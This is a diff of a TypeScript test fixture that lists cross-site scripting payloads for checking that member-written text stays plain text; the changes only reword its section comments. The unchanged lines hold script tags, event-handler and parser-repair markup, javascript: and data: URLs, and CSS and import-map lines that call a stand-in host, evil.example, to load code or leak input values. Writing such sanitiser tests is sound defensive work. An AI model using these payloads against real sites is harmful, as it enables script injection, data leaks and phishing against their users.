@@ -1,4 +1,4 @@
-/** What people write to run code in the pages of others. Every text that members write has to stay text with each. */
+/** Script injection attempts. Every text by members must stay plain text with all of them. */
 export const XSS: readonly string[] = [
   // Elements
   '<script>alert(1)</script>',
@@ -19,7 +19,7 @@ export const XSS: readonly string[] = [
   '<script type="speculationrules">{"prefetch":[{"source":"list","urls":["//evil.example"]}]}</script>',
   '<script type="importmap">{"imports":{"react":"//evil.example/x.js"}}</script>',
   '<script id="page-data" type="application/json">{"user":{"vip":1}}</script>',
-  // Handlers of events
+  // Event handlers
   '<img src=x onerror=alert(1)>',
   '<img src=x onerror="alert(1)">',
   "<img src='x' onerror='alert(1)'/>",
@@ -63,7 +63,7 @@ export const XSS: readonly string[] = [
   '<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
   '<math href="javascript:alert(1)">点</math>',
   '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
-  // Frames, objects and what sends the page elsewhere
+  // Frames, objects and redirects
   '<iframe src=javascript:alert(1)></iframe>',
   '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
   '<iframe src="https://evil.example/login"></iframe>',
@@ -91,7 +91,7 @@ export const XSS: readonly string[] = [
   '<div style="width:expression(alert(1))">',
   '<xss style="behavior:url(x.htc)">',
   '<style>input[value^=a]{background:url(//evil.example/a)}</style>',
-  // Addresses that run
+  // Executable URLs
   'javascript:alert(1)',
   'JaVaScRiPt:alert(1)',
   ' javascript:alert(1)',
@@ -110,7 +110,7 @@ export const XSS: readonly string[] = [
   '<a href="\u0001javascript:alert(1)">查看走势</a>',
   '<a href="data:text/html,<script>alert(1)</script>">查看走势</a>',
   '<a href="//evil.example" target="_blank">查看走势</a>',
-  // Out of an attribute, a string, a comment
+  // Breaking out of an attribute, string or comment
   '"><script>alert(1)</script>',
   "'><script>alert(1)</script>",
   '"><img src=x onerror=alert(1)>',
@@ -165,7 +165,7 @@ export const XSS: readonly string[] = [
   '\u202e<script>alert(1)</script>',
   'ſcript:<ſcript>alert(1)</ſcript>',
   '<K onclick=alert(1)>',
-  // What a parser mends until it runs
+  // Markup that a parser repairs to run
   '<p title="</p><img src=x onerror=alert(1)>">',
   '<svg></p><style><a id="</style><img src=x onerror=alert(1)>">',
   '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
